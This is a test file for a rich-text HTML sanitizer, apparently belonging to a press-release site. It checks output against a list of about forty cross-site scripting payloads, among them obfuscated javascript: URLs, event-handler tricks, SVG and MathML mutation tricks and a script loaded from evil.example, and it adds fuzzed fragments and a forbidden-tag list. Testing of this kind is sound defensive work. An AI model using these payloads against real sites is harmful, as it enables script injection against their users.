import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { richTextConfig } from './rich-text'
import { sanitizeRichText } from './sanitize-rich-text'

const allowedTags = new Set<string>(richTextConfig.ALLOWED_TAGS)
const allowedAttributes = new Set<string>(richTextConfig.ALLOWED_ATTR)
const forbiddenTags = [
  'script',
  'iframe',
  'object',
  'embed',
  'svg',
  'math',
  'style',
  'form',
  'meta',
  'base',
  'link',
  'img',
  'input',
  'body',
  'details',
  'noscript',
  'frame',
]

/** Whether a URL would run or embed something, read as a browser reads a scheme: without whitespace or control characters, any case. */
const dangerousUrl = (value: string) =>
  /^(?:javascript|vbscript|data):/.test(
    [...value]
      .filter((char) => char > ' ' && !(char >= '\u007f' && char <= '\u009f'))
      .join('')
      .toLowerCase(),
  )

/** Parses sanitized HTML as a browser would and lists every problem with it. */
function problemsOf(html: string): string[] {
  const document = new DOMParser().parseFromString(`<!doctype html><html><body>${html}</body></html>`, 'text/html')
  const problems: string[] = []
  if (document.head.childNodes.length > 0) problems.push('content moved into <head>')
  for (const element of document.body.querySelectorAll('*')) {
    const tag = element.localName
    if (!allowedTags.has(tag)) problems.push(`element <${tag}>`)
    if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml') problems.push(`foreign element <${tag}>`)
    for (const { name, value } of element.attributes) {
      if (!allowedAttributes.has(name)) problems.push(`attribute ${name} on <${tag}>`)
      if (name.startsWith('on')) problems.push(`handler ${name} on <${tag}>`)
      // An empty href (the page itself) is harmless; DOMPurify keeps it.
      if (name === 'href' && value !== '' && !richTextConfig.ALLOWED_URI_REGEXP.test(value))
        problems.push(`href ${value}`)
      if (dangerousUrl(value)) problems.push(`${name}=${value}`)
      if (name === 'target' && (value !== '_blank' || !element.getAttribute('rel')?.includes('noopener')))
        problems.push(`target=${value} without noopener`)
    }
  }
  return problems
}

const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
  '<a href="java&#x09;script:alert(1)">tab entity</a>',
  '<a href="java\tscript:alert(1)">raw tab</a>',
  '<a href=" &#14;  javascript:alert(1)">leading junk</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
  '<a href="jav&#x0A;ascript:alert(1)">newline</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<img/src/onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<input autofocus onfocus=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<p onclick="alert(1)" onmouseover=alert(1)>handlers</p>',
  '<a href="#" onclick="alert(1)" data-x="1" aria-label="x">extra attrs</a>',
  '<video><source onerror=alert(1)></video>',
  '<template><script>alert(1)</script></template>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<xss id=x tabindex=1 onfocusin=alert(1)></xss>',
  '<marquee onstart=alert(1)>',
  '<textarea><script>alert(1)</script></textarea>',
] as const

describe('sanitizeRichText', () => {
  it.each(payloads)('renders %s inert', (payload) => {
    const clean = sanitizeRichText(payload)
    expect(problemsOf(clean)).toEqual([])
    expect(clean).not.toMatch(/<\s*script/i)
    const parsed = new DOMParser().parseFromString(clean, 'text/html')
    for (const tag of forbiddenTags.filter((name) => name !== 'body')) expect(parsed.body.querySelector(tag)).toBeNull()
    expect(sanitizeRichText(clean)).toBe(clean)
  })

  it('keeps the markup a release may use', () => {
    const html = [
      '<h2>Heading</h2>',
      '<h3>Sub-heading</h3>',
      '<p>Text with <strong>bold</strong>, <em>italic</em>, <b>b</b>, <i>i</i> and<br>a break.</p>',
      '<blockquote><p>A quote</p></blockquote>',
      '<ul><li>One</li><li>Two</li></ul>',
      '<ol><li>First</li></ol>',
      '<p><a href="https://www.osce.org/" title="OSCE">web</a> <a href="mailto:press@osce.org">mail</a> <a href="/releases">here</a> <a href="#top">top</a></p>',
    ].join('')
    expect(sanitizeRichText(html)).toBe(html)
  })

  it('keeps the text of what it removes', () => {
    expect(sanitizeRichText('<p>Before <span>inside</span> <font>font</font> after</p>')).toBe(
      '<p>Before inside font after</p>',
    )
  })

  it('does not let a link that opens a new tab reach its opener', () => {
    expect(sanitizeRichText('<a href="https://example.org" target="_blank">x</a>')).toBe(
      '<a href="https://example.org" target="_blank" rel="noopener noreferrer">x</a>',
    )
    expect(sanitizeRichText('<a href="https://example.org" target="_blank" rel="opener">x</a>')).toBe(
      '<a href="https://example.org" target="_blank" rel="noopener noreferrer">x</a>',
    )
    expect(sanitizeRichText('<a href="https://example.org" target="other-window">x</a>')).toBe(
      '<a href="https://example.org">x</a>',
    )
  })

  const fragments = [
    ...payloads,
    ...payloads.flatMap((payload) => [
      payload.slice(0, Math.ceil(payload.length / 2)),
      payload.slice(Math.ceil(payload.length / 2)),
    ]),
    '<p>',
    '</p>',
    '<a href="',
    '">',
    '"',
    "'",
    '<',
    '>',
    '/',
    '=',
    ' ',
    '\t',
    '\n',
    '&#x09;',
    '&lt;',
    '<!--',
    '-->',
    '<![CDATA[',
    ']]>',
    'javascript:',
    'JaVaScRiPt:',
    'data:text/html,',
    'https://example.org',
    'onerror=',
    'onload=alert(1)',
    'ok',
    '<strong>',
    '</em>',
    '<a target="_blank" href="https://example.org">',
    ' target=x',
    ' rel=opener',
    '<li>',
    '<ul>',
    '<blockquote>',
    '<svg>',
    '<math>',
    '<noscript>',
    '<template>',
    '<style>',
    '<textarea>',
    '<title>',
    '<select>',
  ]
  const mixedHtml = fc
    .array(fc.oneof(fc.constantFrom(...fragments), fc.string({ maxLength: 8 })), { maxLength: 25 })
    .map((parts) => parts.join(''))

  it('allows only the configured elements, attributes and link schemes, whatever the input', () => {
    fc.assert(
      fc.property(mixedHtml, (html) => {
        expect(problemsOf(sanitizeRichText(html))).toEqual([])
      }),
      { numRuns: 500 },
    )
  })

  it('is stable when removed elements leave one link inside another (found by fast-check)', () => {
    const html =
      '<a href="jav&#x0A;ascrip1)"><button>go</button></form><marquee onst<script>alert(1)</script><a target="_blank" href="https://example.org">'
    const once = sanitizeRichText(html)
    expect(sanitizeRichText(once)).toBe(once)
    expect(once).not.toMatch(/<a[^>]*>[^<]*<a/)
  })

  it('is idempotent', () => {
    fc.assert(
      fc.property(mixedHtml, (html) => {
        const once = sanitizeRichText(html)
        expect(sanitizeRichText(once)).toBe(once)
      }),
      { numRuns: 1000 },
    )
  })
})
